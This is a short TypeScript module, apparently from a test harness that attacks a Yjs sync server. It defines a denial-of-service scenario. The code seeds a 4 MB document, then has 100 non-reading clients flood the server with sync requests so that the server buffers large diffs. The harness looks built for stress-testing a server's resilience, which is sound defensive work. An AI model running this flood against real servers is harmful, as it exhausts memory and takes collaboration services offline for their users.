import * as Y from "yjs";
import { encodeRaw } from "../../../support/raw-messages.ts";
import type { Attack } from "../attack.ts";
import { frame, repeated } from "../raw-socket.ts";

/** The state vector of somebody who has one change of a client that is unknown here. */
const STATE_VECTOR = Uint8Array.of(1, 99, 1);
const ASKS = repeated(frame(encodeRaw({ type: "step1", stateVector: STATE_VECTOR })), 50);

/** Who has something is answered with a difference of his own, which others do not share: 4 MB here. */
export const attack: Attack = {
  name: "differences for clients that do not read",
  connections: [100],
  prepare: async (target) => {
    const doc = new Y.Doc();
    for (let i = 0; i < 64; i++) doc.getMap("map").set(`key ${i}`, "x".repeat(64 * 1024));
    const author = await target.connect();
    author.send(encodeRaw({ type: "update", update: Y.encodeStateAsUpdate(doc) }));
    await author.drained();
  },
  run: async (target) => {
    const clients = await target.connectAll();
    for (const client of clients) client.stopReading();
    while (!target.over) {
      for (const client of clients) client.write(ASKS);
      await target.pause(100);
    }
  },
};
